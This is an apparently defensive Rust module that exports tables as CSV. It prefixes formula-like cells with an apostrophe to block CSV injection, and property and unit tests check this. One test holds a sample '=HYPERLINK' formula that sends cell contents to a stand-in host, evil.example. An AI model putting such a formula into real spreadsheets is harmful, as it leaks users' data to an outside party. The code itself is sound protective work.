//! Tables as CSV: RFC 4180, CRLF line ends, and a BOM so spreadsheet programs read UTF-8.

use super::{Cell, Table};

/// Opens every CSV file: the byte order mark.
pub const BOM: &str = "\u{feff}";

/// One row as a CSV line, its line end included. A value with a comma, a quote or a line
/// break is quoted, its quotes doubled. A text that a spreadsheet would run as a formula
/// (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written after an
/// apostrophe, so a volunteer's «=HYPERLINK(…)» is shown as text, never run, on the
/// coordinator's computer (OWASP's advice for CSV injection). Numbers are cells of their own
/// kind and keep their sign.
pub fn line<'a>(cells: impl IntoIterator<Item = &'a Cell>) -> String {
    let mut line = String::new();
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            line.push(',');
        }
        let text = match cell {
            Cell::Empty => String::new(),
            Cell::Text(text) => neutralised(text),
            Cell::Int(n) => n.to_string(),
            Cell::Real(x) => x.to_string(),
            Cell::Date(date) => date.to_string(),
        };
        if text.contains([',', '"', '\n', '\r']) {
            line.push('"');
            line.push_str(&text.replace('"', "\"\""));
            line.push('"');
        } else {
            line.push_str(&text);
        }
    }
    line.push_str("\r\n");
    line
}

/// Starts that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn neutralised(text: &str) -> String {
    if text.starts_with(FORMULA_STARTS) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The headings' line.
pub fn headings(headings: &[String]) -> String {
    let cells: Vec<Cell> = headings.iter().map(|h| Cell::Text(h.clone())).collect();
    line(&cells)
}

/// A whole table as a CSV file.
pub fn document(table: &Table) -> String {
    let mut csv = String::from(BOM);
    csv.push_str(&headings(&table.headings));
    for row in &table.rows {
        csv.push_str(&line(row));
    }
    csv
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::date::Date;

    #[test]
    fn values_that_need_it_are_quoted_and_numbers_and_days_are_plain() {
        let row = [
            Cell::Text("Двор, 5".into()),
            Cell::Text("«Сад» \"памяти\"".into()),
            Cell::Text("две\r\nстроки".into()),
            Cell::Int(-3),
            Cell::Real(55.354_1),
            Cell::Date(Date::from_ymd(2025, 5, 16).expect("a day")),
            Cell::Empty,
        ];
        assert_eq!(
            line(&row),
            "\"Двор, 5\",\"«Сад» \"\"памяти\"\"\",\"две\r\nстроки\",-3,55.3541,2025-05-16,\r\n"
        );
    }

    #[test]
    fn a_formula_is_written_as_text() {
        let row = [
            Cell::Text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Двор\")".into()),
            Cell::Text("+7 905 123-45-67".into()),
            Cell::Text("@SUM(A1)".into()),
            Cell::Text("\tлист".into()),
            Cell::Text("Двор = сад".into()),
            Cell::Int(-3),
        ];
        assert_eq!(
            line(&row),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Двор\"\")\",'+7 905 123-45-67,'@SUM(A1),'\tлист,Двор = сад,-3\r\n"
        );
    }

    proptest::proptest! {
        /// Whatever a person typed, no cell a spreadsheet reads from the file starts a
        /// formula, and the text is there whole after the apostrophe.
        #[test]
        fn no_text_cell_starts_a_formula(text in "[=+\\-@\t\r]?[^\r\n]{0,20}") {
            let written = line(&[Cell::Text(text.clone())]);
            let cell = written.strip_suffix("\r\n").expect("a line end");
            let unquoted = match cell.strip_prefix('"').and_then(|c| c.strip_suffix('"')) {
                Some(inner) => inner.replace("\"\"", "\""),
                None => cell.to_owned(),
            };
            proptest::prop_assert!(!unquoted.starts_with(FORMULA_STARTS));
            let original = unquoted.strip_prefix('\'').filter(|_| text.starts_with(FORMULA_STARTS)).unwrap_or(&unquoted);
            proptest::prop_assert_eq!(original, text.as_str());
        }
    }
}
